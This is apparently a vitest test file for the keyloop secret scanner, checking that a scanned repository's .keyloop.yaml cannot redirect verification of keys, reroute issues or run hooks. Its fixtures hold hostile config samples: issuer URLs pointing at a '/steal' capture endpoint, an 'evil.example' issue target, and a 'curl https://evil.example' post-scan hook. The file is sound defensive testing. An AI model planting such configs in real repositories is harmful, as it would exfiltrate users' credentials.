// Configuration trust: a scanned repository's own .keyloop.yaml may only narrow the report. It can never say
// where keys are sent, which key fingerprints them, who is told, or stop its own scan; the operator's config
// (--config, KEYLOOP_CONFIG, the user config file) can, and explicit flags beat it. Each attack from issue #16 is
// reproduced through the CLI (in-process) against loopback fakes.
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fingerprint } from '../../src/core/fingerprint.js';
import { mirrorRepositoryConfig } from '../../src/sources/repo-config.js';
import { startFakeGitHub, type FakeGitHub } from '../../testkit/fake-github.js';
import { FakeIssuer } from '../../testkit/fake-issuer.js';
import { buildRepo, tempDir, type BuiltRepo } from '../../testkit/git-repo.js';
import { runCli } from '../helpers/run-cli.js';
import { scanFindings } from '../helpers/scan-report.js';
import { withCrc32Tail } from '../../testkit/token-gen.js';
import { operatorFile, startCaptureServer, type CaptureServer } from './helpers.js';

const B62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const pick = (alphabet: string, n: number) => [...randomBytes(n)].map((b) => alphabet[b % alphabet.length]).join('');
const ghToken = () => withCrc32Tail('ghp_', pick(B62, 30));
const awsPair = () => ({ id: 'AKIA' + pick('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16), secret: pick(B62 + '/+', 40) });

type Finding = { detector: string; secret: string; fingerprint: string; verification?: { status: string; reason: string; identity?: Record<string, string> } };
const findings = (stdout: string) => scanFindings(stdout) as unknown as Finding[];

let issuer: FakeIssuer;
let capture: CaptureServer;
beforeAll(async () => {
  issuer = await FakeIssuer.start();
  capture = await startCaptureServer();
});
afterAll(async () => {
  await issuer?.close();
  await capture?.close();
});

/** A repo whose history and working tree hold `files` plus the given .keyloop.yaml (committed, as an attacker would). */
async function repoWith(files: Record<string, string>, keyloopYaml?: string): Promise<BuiltRepo> {
  return buildRepo({ commits: [{ id: 'c1', files: { ...files, ...(keyloopYaml !== undefined ? { '.keyloop.yaml': keyloopYaml } : {}) } }] });
}


describe('a scanned repository cannot steer `keyloop scan`', () => {
  it('issuers.*.baseUrl in the repo config does not redirect keys: the token goes to the operator\'s --github-url, the AWS pair to the issuer in the operator\'s file', async () => {
    const token = ghToken();
    const aws = awsPair();
    issuer.setKey('github', token, 'live');
    issuer.aws.set(aws.id, aws.secret);
    issuer.awsIdentity.set(aws.id, { account: '111122223333', arn: 'arn:aws:iam::111122223333:user/deploy' });
    issuer.setKey('aws', aws.id, 'live');
    const hostile = `issuers:\n  github: { baseUrl: "${capture.url}/steal" }\n  aws: { baseUrl: "${capture.url}/aws" }\n`;
    const repo = await repoWith({ 'ci/deploy.sh': `export GH_TOKEN=${token}\n`, 'deploy/aws.ini': `aws_access_key_id = ${aws.id}\naws_secret_access_key = ${aws.secret}\n` }, hostile);
    // The operator's own settings live in the user config file (no --config: the repo's file is read as well).
    const home = await tempDir('keyloop-xdg-');
    mkdirSync(join(home, 'keyloop'));
    writeFileSync(join(home, 'keyloop', 'config.yaml'), `issuers:\n  aws: { baseUrl: "${issuer.baseUrl('aws')}" }\n`);
    const r = await runCli(['scan', repo.dir, '--verify', '--allow-insecure-issuers', '--github-url', issuer.baseUrl('github'), '--format', 'json', '--reveal', '--no-progress'], {
      env: { ...process.env, XDG_CONFIG_HOME: home },
    });

    capture.expectNoLeak([token, aws.id, aws.secret]);
    expect(capture.requests).toEqual([]);
    expect(r.code, r.stderr).toBe(1);
    const fs = findings(r.stdout);
    const gh = fs.find((f) => f.secret === token)!;
    expect(gh.verification).toMatchObject({ status: 'live', identity: { login: expect.stringMatching(/^user-/) } });
    for (const f of fs.filter((f) => f.detector.startsWith('aws-'))) expect(f.verification).toMatchObject({ status: 'live', identity: { account: '111122223333' } });
    expect(fs.filter((f) => f.detector.startsWith('aws-')).length).toBeGreaterThan(0);
    expect(r.stderr).toMatch(/\.keyloop\.yaml: issuers: operator-only field, ignored in a repository config/);
    expect(issuer.requestsFor('github').length).toBeGreaterThan(0);
  });

  it('every operator-only field is named in a warning and has no effect; the scan goes on', async () => {
    const token = ghToken();
    const hostile = [
      `issuers: { github: { baseUrl: "${capture.url}/steal" } }`,
      'verify: { timeoutMs: 1 }',
      'fingerprint: { key: attacker-chosen-key }',
      'owners: { fallback: mallory }',
      'issues: { repo: mallory/loot, webUrl: "https://evil.example" }',
      'policy: { revokeGitHubTokens: true }',
      'hooks: { postScan: "curl https://evil.example" }',
      'proxy: http://127.0.0.1:3128',
      '',
    ].join('\n');
    const repo = await repoWith({ '.env': `GITHUB_TOKEN=${token}\n` }, hostile);
    const r = await runCli(['scan', repo.dir, '--format', 'json', '--reveal', '--no-progress']);
    expect(r.code, r.stderr).toBe(1);
    const [f] = findings(r.stdout);
    // The fingerprint key is the operator's (the default here), not the one the repository chose.
    expect(f!.fingerprint).toBe(fingerprint(f!.detector, token));
    for (const field of ['issuers', 'verify', 'fingerprint', 'owners', 'issues', 'policy']) {
      expect(r.stderr).toContain(`.keyloop.yaml: ${field}: operator-only field, ignored in a repository config`);
    }
    for (const field of ['hooks', 'proxy']) expect(r.stderr).toContain(`.keyloop.yaml: ${field}: unknown field, ignored`);
    expect(capture.requests).toEqual([]);
  });

  it('without any operator setting the key goes to the issuer\'s documented host, never to the repo\'s URL', async () => {
    const token = ghToken();
    const repo = await repoWith({ '.env': `GITHUB_TOKEN=${token}\n` }, `issuers:\n  github:\n    baseUrl: ${capture.url}/steal\n`);
    const r = await runCli(['scan', repo.dir, '--verify', '--format', 'json', '--reveal', '--no-progress']);
    capture.expectNoLeak([token]);
    expect(r.code, r.stderr).toBe(1);
    // api.github.com is not reachable from tests (net guard): unknown, and above all not the attacker's "dead".
    expect(findings(r.stdout).find((f) => f.secret === token)!.verification!.status).toBe('unknown');
  });

  it('narrowing fields apply and are reported; --no-repo-config ignores the file', async () => {
    const hidden = ghToken();
    const shown = ghToken();
    const fp = fingerprint('github-pat-classic', hidden);
    const repo = await repoWith({ 'a.env': `T=${hidden}\n`, 'b.env': `T=${shown}\n`, 'fixtures/c.env': `T=${ghToken()}\n` }, `allow:\n  fingerprints: [${fp}]\npaths:\n  exclude: ["fixtures/**"]\n`);
    const r = await runCli(['scan', repo.dir, '--format', 'json', '--reveal', '--no-progress']);
    expect(findings(r.stdout).map((f) => f.secret)).toEqual([shown]);
    expect(r.stderr).toMatch(/2 finding\(s\) suppressed by the repository config .*\.keyloop\.yaml/);
    const all = await runCli(['scan', repo.dir, '--format', 'json', '--reveal', '--no-progress', '--no-repo-config']);
    expect(findings(all.stdout)).toHaveLength(3);
    expect(all.stderr).not.toMatch(/suppressed/);
  });

  it.each([
    ['not YAML', 'paths: [\n'],
    ['not a mapping', '- just\n- a list\n'],
    ['wrong type', 'paths:\n  exclude: "src/**"\nallow: 3\n'],
    ['regex RE2 cannot compile', 'allow:\n  regexes: ["(?<=x)y"]\n'],
    ['bad fingerprint', 'allow:\n  fingerprints: [nothex]\n'],
    ['unknown detector id', 'detectors:\n  only: [github-pat-clasic]\n  disable: [nope]\n'],
    ['unknown field', 'pathz:\n  exclude: []\n'],
    ['huge list', `allow:\n  regexes: [${Array.from({ length: 5000 }, (_, i) => `"^x${i}$"`).join(', ')}]\n`],
  ])('a broken repository config (%s) is a warning; the scan still reports the secret', async (_name, text) => {
    const token = ghToken();
    const repo = await repoWith({ '.env': `GITHUB_TOKEN=${token}\n` }, text);
    const r = await runCli(['scan', repo.dir, '--format', 'json', '--reveal', '--no-progress']);
    expect(r.code, r.stderr).toBe(1);
    expect(findings(r.stdout).map((f) => f.secret)).toContain(token);
    expect(r.stderr).toMatch(/\.keyloop\.yaml: .*(ignored|not valid YAML)/);
  });

  it('an unknown detector id names the closest valid one; for a repository it is only a warning', async () => {
    const token = ghToken();
    const repo = await repoWith({ '.env': `GITHUB_TOKEN=${token}\n` }, 'detectors:\n  disable: [github-pat-clasic]\n');
    const fromRepo = await runCli(['scan', repo.dir, '--format', 'json', '--reveal', '--no-progress']);
    expect(fromRepo.code).toBe(1);
    expect(fromRepo.stderr).toMatch(/detectors\.disable\.0: unknown detector id "github-pat-clasic" \(did you mean "github-pat-classic"\?\); ignored/);
    const op = await operatorFile('detectors:\n  only: [github-pat-clasic]\n');
    const fromOperator = await runCli(['scan', repo.dir, '--config', op, '--no-progress']);
    expect(fromOperator.code).toBe(2);
    expect(fromOperator.stderr.trim().split('\n')).toHaveLength(1);
    expect(fromOperator.stderr).toContain('detectors.only.0: unknown detector id "github-pat-clasic" (did you mean "github-pat-classic"?)');
  });

  it('a path glob from the repository cannot stall the scan (globs run on RE2)', async () => {
    const token = ghToken();
    const name = 'a'.repeat(60);
    const repo = await repoWith({ [name]: 'nothing\n', '.env': `GITHUB_TOKEN=${token}\n` }, `paths:\n  exclude: ["*a*a*a*a*a*a*a*a*a*a*a*a*b"]\n`);
    const r = await runCli(['scan', repo.dir, '--format', 'json', '--reveal', '--no-progress']);
    expect(r.code, r.stderr).toBe(1);
    expect(findings(r.stdout).map((f) => f.secret)).toEqual([token]);
  });

  it('a .keyloop.yaml that is a symlink (e.g. to an operator file) is not read', async () => {
    const token = ghToken();
    const repo = await repoWith({ '.env': `GITHUB_TOKEN=${token}\n` });
    const elsewhere = await operatorFile(`allow:\n  fingerprints: [${fingerprint('github-pat-classic', token)}]\n`);
    symlinkSync(elsewhere, join(repo.dir, '.keyloop.yaml'));
    const r = await runCli(['scan', repo.dir, '--format', 'json', '--reveal', '--no-progress']);
    expect(findings(r.stdout).map((f) => f.secret)).toEqual([token]);
    expect(r.stderr).toMatch(/\.keyloop\.yaml: a symbolic link; ignored/);
  });
});

describe('operator configuration', () => {
  it('--config is resolved against the current directory, not the scanned root', async () => {
    const token = ghToken();
    const repo = await repoWith({ '.env': `GITHUB_TOKEN=${token}\n` });
    const cwd = await tempDir('keyloop-cwd-');
    writeFileSync(join(cwd, 'op.yaml'), `allow:\n  fingerprints: [${fingerprint('github-pat-classic', token)}]\n`);
    const r = await runCli(['scan', repo.dir, '--config', 'op.yaml', '--format', 'json', '--no-progress', '--quiet'], { cwd });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(findings(r.stdout)).toEqual([]);
  });

  it('KEYLOOP_CONFIG and the user config file are operator sources: they may point an issuer at a host', async () => {
    const token = ghToken();
    issuer.setKey('github', token, 'live');
    const repo = await repoWith({ '.env': `GITHUB_TOKEN=${token}\n` });
    const op = `issuers:\n  github: { baseUrl: "${issuer.baseUrl('github')}" }\n`;
    const viaEnv = await runCli(['scan', repo.dir, '--verify', '--allow-insecure-issuers', '--format', 'json', '--reveal', '--no-progress'], { env: { ...process.env, KEYLOOP_CONFIG: await operatorFile(op) } });
    expect(findings(viaEnv.stdout)[0]!.verification!.status).toBe('live');

    const home = await tempDir('keyloop-xdg-');
    mkdirSync(join(home, 'keyloop'));
    writeFileSync(join(home, 'keyloop', 'config.yaml'), op);
    const viaUserFile = await runCli(['scan', repo.dir, '--verify', '--allow-insecure-issuers', '--format', 'json', '--reveal', '--no-progress'], { env: { ...process.env, XDG_CONFIG_HOME: home } });
    expect(findings(viaUserFile.stdout)[0]!.verification!.status).toBe('live');

    const missing = await runCli(['scan', repo.dir, '--no-progress'], { env: { ...process.env, KEYLOOP_CONFIG: join(home, 'nope.yaml') } });
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/KEYLOOP_CONFIG: config file not found/);
  });

  it('an explicit --github-url beats the operator file\'s issuers.github', async () => {
    const token = ghToken();
    issuer.setKey('github', token, 'live');
    const repo = await repoWith({ '.env': `GITHUB_TOKEN=${token}\n` });
    const other = await startCaptureServer();
    try {
      const op = await operatorFile(`issuers:\n  github: { baseUrl: "${other.url}/github" }\n`);
      const r = await runCli(['scan', repo.dir, '--verify', '--allow-insecure-issuers', '--config', op, '--github-url', issuer.baseUrl('github'), '--format', 'json', '--reveal', '--no-progress']);
      expect(other.requests).toEqual([]);
      expect(findings(r.stdout)[0]!.verification!.status).toBe('live');
    } finally {
      await other.close();
    }
  });
});

describe('a mirror\'s repository config (org, App)', () => {
  const ids = new Set(['github-pat-classic']);
  it('is read from the default branch only: a .keyloop.yaml pushed on another branch is not applied', async () => {
    const r = await buildRepo({
      bare: true,
      commits: [
        { id: 'c1', files: { '.keyloop.yaml': 'allow:\n  regexes: ["^from-main$"]\n' } },
        { id: 'f1', branch: 'feature', parents: ['c1'], files: { '.keyloop.yaml': 'allow:\n  regexes: ["^from-feature$"]\n' } },
      ],
    });
    expect((await mirrorRepositoryConfig(r.gitDir, { fullName: 'acme/x', defaultBranch: 'main' }, ids))!.suppression.allowRegexes).toEqual(['^from-main$']);
    // The host names a default branch the mirror does not have: HEAD (main here) is read, never another branch.
    expect((await mirrorRepositoryConfig(r.gitDir, { fullName: 'acme/x', defaultBranch: 'gone' }, ids))!.suppression.allowRegexes).toEqual(['^from-main$']);
    const none = await buildRepo({ bare: true, commits: [{ id: 'c1', files: { 'README.md': 'x\n' } }, { id: 'f1', branch: 'feature', parents: ['c1'], files: { '.keyloop.yaml': 'allow:\n  regexes: [x]\n' } }] });
    expect(await mirrorRepositoryConfig(none.gitDir, { fullName: 'acme/y', defaultBranch: 'main' }, ids)).toBeNull();
  });

  it('a file over 256 KiB is ignored with a warning, without reading it whole', async () => {
    const r = await buildRepo({ bare: true, commits: [{ id: 'c1', files: { '.keyloop.yaml': `# ${'x'.repeat(300 * 1024)}\nallow:\n  regexes: [x]\n` } }] });
    const c = await mirrorRepositoryConfig(r.gitDir, { fullName: 'acme/big', defaultBranch: 'main' }, ids);
    expect(c!.suppression.allowRegexes).toEqual([]);
    expect(c!.warnings).toEqual(['acme/big:.keyloop.yaml: larger than 262144 bytes; ignored']);
  });
});

describe('org and App runs: repository configs only narrow, and what they drop is counted', () => {
  let gh: FakeGitHub;
  let privatePem: string;
  const ADMIN = 'admin-' + randomBytes(8).toString('hex');
  const APP_ID = 4711;
  const INSTALLATION = 31;
  const hidden = ghToken();
  const shown = ghToken();
  let leaky: BuiltRepo;
  const hostileYaml = () =>
    [
      `allow:\n  fingerprints: [${fingerprint('github-pat-classic', hidden)}]`,
      `issuers:\n  github: { baseUrl: "${capture.url}/steal" }`,
      'issues: { repo: mallory/loot, webUrl: "https://evil.example" }',
      'policy: { revokeGitHubTokens: true }',
      'owners: { fallback: mallory }',
      '',
    ].join('\n');

  beforeAll(async () => {
    const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    privatePem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    gh = await startFakeGitHub({ tokens: { [ADMIN]: 'keyloop-bot' }, app: { id: APP_ID, publicKey: publicKey.export({ type: 'spki', format: 'pem' }).toString() } });
    leaky = await buildRepo({
      bare: true,
      commits: [
        { id: 'c1', files: { '.keyloop.yaml': hostileYaml(), 'README.md': '# leaky\n' } },
        { id: 'c2', files: { '.env': `A=${hidden}\nB=${shown}\n` } },
      ],
    });
    gh.addRepo('acme/leaky', { private: true, gitDir: leaky.gitDir });
    gh.addInstallation({ id: INSTALLATION, account: 'acme', repositories: 'all' });
  });
  afterAll(async () => gh?.close());

  const envFor = (dir: string) => ({ ...process.env, KEYLOOP_KEY: 'ab'.repeat(32), GITHUB_TOKEN: ADMIN, GITHUB_API_URL: gh.url, XDG_CACHE_HOME: join(dir, 'cache') });

  it('keyloop org: the count is in the JSON and table summaries and in `keyloop report`; --no-repo-config records everything', async () => {
    const dir = await tempDir('keyloop-org-trust-');
    const env = envFor(dir);
    const first = await runCli(['org', 'acme', '--format', 'json', '--no-progress'], { cwd: dir, env });
    expect(first.code, first.stderr).toBe(0);
    const s = JSON.parse(first.stdout) as { run: { suppressedByRepoConfig: number; findings: number }; repos: { repo: string; findings: number; suppressedByRepoConfig: number }[] };
    expect(s.repos).toMatchObject([{ repo: 'acme/leaky', findings: 1, suppressedByRepoConfig: 1 }]);
    expect(s.run).toMatchObject({ findings: 1, suppressedByRepoConfig: 1 });
    for (const field of ['issuers', 'issues', 'policy', 'owners']) expect(first.stderr).toContain(`acme/leaky:.keyloop.yaml: ${field}: operator-only field`);

    const table = await runCli(['org', 'acme', '--rescan', '--no-progress'], { cwd: dir, env });
    expect(table.stdout).toContain('REPO-SUPPRESSED');
    expect(table.stdout).toMatch(/suppressed by repository \.keyloop\.yaml: acme\/leaky 1/);

    const report = await runCli(['report', '--format', 'json'], { cwd: dir, env });
    expect((JSON.parse(report.stdout) as { repoConfigSuppressions: unknown }).repoConfigSuppressions).toEqual([{ repo: 'acme/leaky', suppressed: 2, runs: 2, lastAt: expect.any(String) }]);
    const md = await runCli(['report'], { cwd: dir, env });
    expect(md.stdout).toMatch(/\| acme\/leaky \| 2 \| 2 \|/);

    const all = await runCli(['org', 'acme', '--rescan', '--no-repo-config', '--format', 'json', '--no-progress'], { cwd: dir, env });
    expect((JSON.parse(all.stdout) as typeof s).repos).toMatchObject([{ repo: 'acme/leaky', findings: 2, suppressedByRepoConfig: 0 }]);
    expect(all.stderr).not.toContain('.keyloop.yaml');
    capture.expectNoLeak([hidden, shown, ADMIN]);
    expect(capture.requests).toEqual([]);
  });

  it('a .keyloop.yaml in the current directory (a checkout of a scanned repo) is not operator config for org/issues', async () => {
    const dir = await tempDir('keyloop-org-cwd-');
    const env = envFor(dir);
    writeFileSync(join(dir, '.keyloop.yaml'), `issuers:\n  github: { baseUrl: "${capture.url}/steal" }\nissues: {}\n`);
    const org = await runCli(['org', 'acme', '--format', 'json', '--no-progress'], { cwd: dir, env });
    expect(org.code, org.stderr).toBe(0);
    expect(org.stderr).toContain('./.keyloop.yaml is not read by this command');
    const issues = await runCli(['issues', '--dry-run', '--allow-insecure-issuers'], { cwd: dir, env });
    expect(issues.code, issues.stderr).toBe(0);
    expect(issues.stderr).toContain('./.keyloop.yaml is not read by this command');
    capture.expectNoLeak([hidden, shown, ADMIN]);
    expect(capture.requests).toEqual([]);
  });

  it('the App (keyloop receive): the check run says how many findings the repository config suppressed', async () => {
    const dir = await tempDir('keyloop-app-trust-');
    const env = { ...envFor(dir), APP_ID: String(APP_ID), PRIVATE_KEY: privatePem.replace(/\n/g, '\\n'), WEBHOOK_SECRET: 'unused' };
    const push = join(dir, 'push.json');
    writeFileSync(
      push,
      JSON.stringify({
        ref: 'refs/heads/main',
        before: leaky.sha.c1,
        after: leaky.sha.c2,
        repository: { id: 9, full_name: 'acme/leaky', clone_url: gh.cloneUrl('acme/leaky'), default_branch: 'main', private: true },
        installation: { id: INSTALLATION },
      }),
    );
    const before = gh.checkRuns.length;
    const r = await runCli(['receive', push, '--event', 'push', '--db', 'k.db', '--github-url', gh.url, '--allow-insecure-issuers', '--no-issues'], { cwd: dir, env });
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ status: 'done', result: { findings: 1, suppressedByRepoConfig: 1 } });
    const run = gh.checkRuns.slice(before).at(-1)!;
    expect((run.output as { summary: string }).summary).toContain("1 finding suppressed by this repository's `.keyloop.yaml`");
    expect(r.stderr).toContain('acme/leaky:.keyloop.yaml: issuers: operator-only field');

    const all = await runCli(['receive', push, '--event', 'push', '--db', 'k.db', '--github-url', gh.url, '--allow-insecure-issuers', '--no-issues', '--no-repo-config'], {
      cwd: dir,
      env,
    });
    expect(JSON.parse(all.stdout)).toMatchObject({ status: 'done', result: { findings: 2 } });
    capture.expectNoLeak([hidden, shown]);
    expect(capture.requests).toEqual([]);
  });
});
